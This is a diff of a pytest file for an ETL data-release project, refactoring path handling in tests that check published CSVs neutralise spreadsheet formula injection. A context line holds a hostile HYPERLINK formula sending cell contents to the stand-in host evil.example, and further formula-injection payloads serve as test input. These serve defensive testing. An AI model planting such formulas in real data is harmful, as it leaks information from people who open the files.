@@ -15,12 +15,13 @@ import frictionless
 import pandas as pd
 import pytest
 
-from etl import paths
 from etl.build import build
 from etl.contribute.registry import add_source
+from etl.project import Project
 from etl.publish.package import publish
 from etl.publish.release import make_release
 from etl.version import DATA_VERSION
+from tests.conftest import REPO
 
 FORMULAS = {
     "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -40,12 +41,13 @@ def read_back(path: Path) -> list[dict[str, str]]:
 def hostile_release(tmp_path_factory) -> Path:
     """The seeds plus a text whose registry entry is made of spreadsheet formulas."""
     project = tmp_path_factory.mktemp("project")
-    shutil.copytree(paths.SEEDS, project / "seeds")
+    shutil.copytree(REPO.seeds, project / "seeds")
+    shutil.copytree(REPO.root / "docs", project / "docs")  # the contract the copies quote
     text = project / "formulas.txt"
     text.write_text(TEXT, encoding="utf-8")
-    add_source(text, source_id="formulas", written="1937", root=project, **FORMULAS)
-    release = build(dist=project / "dist", root=project).release
-    make_release(release.name, project / "dist", root=project)
+    add_source(text, source_id="formulas", written="1937", project=Project(project), **FORMULAS)
+    release = build(Project(project), dist=project / "dist").release
+    make_release(release.name, project / "dist", Project(project))
     return release
 
 
@@ -89,7 +91,7 @@ def test_tab_and_carriage_return_openings_are_neutralised(hostile_release: Path,
     checks.loc[2, "message"] = "-42"  # text that looks like a number is still text
     frames["checks"] = checks
     release, _ = publish(frames, "9.9.9", tmp_path)
-    make_release("9.9.9", tmp_path, root=hostile_release.parent.parent)
+    make_release("9.9.9", tmp_path, Project(hostile_release.parent.parent))
     messages = [r["message"] for r in read_back(release / "csv" / "checks.csv")][:3]
     assert messages == ["'\t=1+1", "'\r@SUM(A1)", "'-42"]
 
@@ -100,7 +102,7 @@ def test_tab_and_carriage_return_openings_are_neutralised(hostile_release: Path,
 def repository_files() -> list[str]:
     try:
         listed = subprocess.run(
-            ["git", "ls-files", "-z"], cwd=paths.ROOT, capture_output=True, check=True
+            ["git", "ls-files", "-z"], cwd=REPO.root, capture_output=True, check=True
         ).stdout
     except (OSError, subprocess.CalledProcessError):
         pytest.skip("needs a git checkout of the project")
@@ -114,14 +116,14 @@ def clone(tmp_path: Path) -> Path:
     root = tmp_path / "clone"
     keep = ("dist/3.2.1/", "dist/3.3.0/")  # two older releases are enough, and quicker
     for name in repository_files():
-        source = paths.ROOT / name
+        source = REPO.root / name
         if name.startswith("dist/") and not name.startswith(keep):
             continue
         if source.is_file():
             (root / name).parent.mkdir(parents=True, exist_ok=True)
             shutil.copy2(source, root / name)
     for tool in (".venv", ".tools"):
-        (root / tool).symlink_to(paths.ROOT / tool)
+        (root / tool).symlink_to(REPO.root / tool)
     return root
 
 
@@ -170,6 +172,6 @@ def test_a_build_killed_while_publishing_leaves_nothing_that_blocks(clone: Path)
     # The rebuilt release is the committed one.
     for name in ("data/sentences.parquet", "data/mentions.parquet"):
         assert (dist / DATA_VERSION / name).read_bytes() == (
-            paths.DIST / DATA_VERSION / name
+            REPO.dist / DATA_VERSION / name
         ).read_bytes()
     assert (dist / DATA_VERSION / "SHA256SUMS").is_file()
